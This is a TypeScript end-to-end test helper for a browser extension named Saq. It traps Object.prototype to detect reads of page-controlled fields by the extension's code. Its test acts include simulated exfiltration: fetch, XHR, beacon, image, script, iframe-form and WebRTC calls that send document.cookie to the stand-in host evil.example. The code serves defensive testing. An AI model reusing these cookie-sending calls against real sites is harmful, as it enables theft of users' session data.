/**
 * A page that watches its own Object.prototype while a helper acts: for every name Saq's MAIN world reads
 * (taken from the built bundle) and every name the engine reads from objects handed to it (option
 * dictionaries, `then`, `toJSON`), an accessor that behaves like an absent property — reads give undefined,
 * writes make an own data property — and records who asked. A read or write whose first frame below the trap
 * is extension code is Saq reaching the page's Object.prototype: a field its own object left out, which a page
 * could have answered (tests/e2e/sensors-main-tamper.e2e.ts).
 *
 * The acts pass no object of the page's own to any API, so that whatever Saq reads then is its own. The one
 * exception is the control at the end: an empty init object given to fetch, whose fields Saq reads on the
 * page's behalf (the body it may carry) — it proves the trap sees Saq's frames in this browser.
 */

import { UNSIGNALLED_CHANNEL } from './main-world.ts';

/** Names the engine reads by [[Get]] from objects Saq hands it, whether or not Saq's source spells them. */
const ENGINE_READS = [
  'then',
  'toJSON',
  'handleEvent',
  'capture',
  'once',
  'passive',
  'signal',
  'bubbles',
  'cancelable',
  'composed',
  'detail',
  'timeout',
  'stream',
  'done',
  'next',
  'method',
  'headers',
  'body',
  'mode',
  'credentials',
  'cache',
  'redirect',
  'referrer',
  'integrity',
  'keepalive',
  'duplex',
  'priority',
  'window',
];
/** A descriptor's fields: the page's own defineProperty calls would break (Saq's are prototype-less: descriptors.ts). */
const DESCRIPTOR_FIELDS = new Set(['get', 'set', 'value', 'writable', 'enumerable', 'configurable']);

/**
 * The property names a built MAIN-world bundle uses, plus the engine's: read or written by name (`.name`,
 * `?.name`), and keys of object literals, destructuring patterns and method shorthands (`{name:`, `{name(`),
 * which minified code writes for what it destructures. Trapping a name Saq only ever sets as its own costs
 * nothing: the trap is only reached by a lookup that falls through.
 */
export function trappedNames(bundle: string): string[] {
  const names = new Set(ENGINE_READS);
  for (const match of bundle.matchAll(/\??\.([A-Za-z_$][\w$]*)/g)) names.add(match[1]!);
  for (const match of bundle.matchAll(/[{,]([A-Za-z_$][\w$]*)[:(]/g)) names.add(match[1]!);
  return [...names].filter((name) => !DESCRIPTOR_FIELDS.has(name) && !(name in Object.prototype)).sort();
}

/**
 * The helper script: traps on, the acts, 1,200 ms for Saq's deferred work (the hook check's 1 s timer runs
 * once under the traps), traps off, what was seen in `window.__trapped`.
 */
export function prototypeTrapsScript(names: readonly string[]): string {
  return `(() => {
  const NAMES = ${JSON.stringify(names)};
  const shared = Object.prototype;
  const EXTENSION = /chrome-extension:|moz-extension:|<anonymous code>/;
  const BUILTIN = /\\(<anonymous>\\)$|self-hosted|\\[native code\\]/;
  const seen = [];
  let phase = 'acts';
  let busy = false;
  const record = (name, access) => {
    if (busy) return;
    busy = true;
    try {
      const lines = String(new Error().stack).split('\\n').filter((line) => line.trim() && line.trim() !== 'Error');
      let i = 0;
      while (i < lines.length && lines[i].includes('prototype-traps')) i++;
      while (i < lines.length && BUILTIN.test(lines[i])) i++;
      // Firefox marks the frames of an async cause ('Async*w@...'): below them nothing reads synchronously.
      const reader = lines[i] && !/^[^@(]*\\*/.test(lines[i]) ? lines[i] : '';
      // Saq's wrapper of a scheduled callback (src/content/main/scheduled.ts) calls the callback and reads nothing: a
      // callback with no frame of its own (a promise's resolve function handed an object, the browser's own code)
      // shows that wrapper as its caller, and what it reads is the callback's.
      if (/(?:^|[\\s.])scheduled(?:@| \\()/.test(reader)) return;
      if (EXTENSION.test(reader)) seen.push({ name, access, phase, at: reader.trim().slice(0, 160) });
    } finally {
      busy = false;
    }
  };
  const traps = {};
  for (const name of NAMES) {
    traps[name] = {
      configurable: true,
      get() {
        record(name, 'read');
        return undefined;
      },
      set(value) {
        record(name, 'write');
        try {
          Reflect.defineProperty(this, name, { __proto__: null, value, writable: true, enumerable: true, configurable: true });
        } catch {}
      },
    };
  }
  for (const name of NAMES) Object.defineProperty(shared, name, { __proto__: null, ...traps[name] });
  const evil = (path) => 'https://evil.example/trap-' + path + '?c=' + encodeURIComponent(document.cookie);
  const attempt = (act) => {
    try {
      act();
    } catch {}
  };
  attempt(() => fetch(evil('fetch')).catch(() => {}));
  attempt(() => {
    const xhr = new XMLHttpRequest();
    xhr.open('POST', evil('xhr'));
    xhr.send('x');
  });
  attempt(() => navigator.sendBeacon(evil('beacon'), 'x'));
  attempt(() => (new Image().src = evil('pixel')));
  attempt(() => {
    const inline = document.createElement('script');
    inline.textContent = 'fetch(' + JSON.stringify(evil('inline')) + ').catch(() => {}); document.body.dispatchEvent(new MouseEvent("click"));';
    document.head.append(inline);
  });
  attempt(() => {
    const empty = document.createElement('script');
    document.head.append(empty);
    empty.textContent = 'window.__trapEmpty = 1;';
  });
  attempt(() => {
    const remote = document.createElement('script');
    remote.src = evil('script');
    document.head.append(remote);
  });
  attempt(() => document.createElement('button').click());
  attempt(() => document.body.dispatchEvent(new MouseEvent('click')));
  attempt(() => new Function('return 1')());
  attempt(() => (0, eval)('1'));
  attempt(() => document.addEventListener('keydown', () => {}));
  attempt(() => document.createElement('div').setAttribute('onclick', 'void 0'));
  attempt(() => (document.createElement('div').innerHTML = '<img src="data:," onerror="void 0">'));
  attempt(() => void localStorage.length);
  attempt(() => {
    const frame = document.createElement('iframe');
    frame.hidden = true;
    document.body.append(frame);
    frame.contentWindow.fetch(evil('frame')).catch(() => {});
    const holder = frame.contentDocument.createElement('div');
    holder.innerHTML = '<form method="post" action="' + evil('form') + '"><input name="n"></form>';
    frame.contentDocument.body.append(holder);
    holder.firstChild.requestSubmit();
  });
  attempt(() => new Worker(URL.createObjectURL(new Blob(['1'], { type: 'text/javascript' }))));
  attempt(() => {
    const field = document.createElement('input');
    document.body.append(field);
    field.dispatchEvent(new KeyboardEvent('keydown', { key: 'a', bubbles: true }));
    field.dispatchEvent(new InputEvent('input', { data: 'a', bubbles: true }));
  });
  // WebRTC, whose sends Saq reads when they happen (later, on the channel's open): no page object handed to a
  // hooked call but the descriptions (own type and sdp only), and the sends counted in sent.
  let sent = 0;
  ${UNSIGNALLED_CHANNEL}
  attempt(() =>
    unsignalled('trap', (channel) => {
      channel.send('c=' + document.cookie);
      channel.send(new Uint8Array(8));
      sent = 2;
    }).catch(() => {}),
  );
  setTimeout(() => {
    phase = 'control';
    attempt(() => fetch(evil('control'), {}).catch(() => {}));
    phase = 'after';
    // 1,200 ms and the data channel's sends (at most 10 s more: the test fails on a channel that never opened).
    const deadline = Date.now() + 11200;
    const finish = () => {
      if (Date.now() < deadline && (sent === 0 || Date.now() < deadline - 10000)) return void setTimeout(finish, 50);
      for (const name of NAMES) delete shared[name];
      window.__trapped = { names: NAMES.length, seen, sent };
    };
    setTimeout(finish, 1200);
  }, 0);
})();`;
}
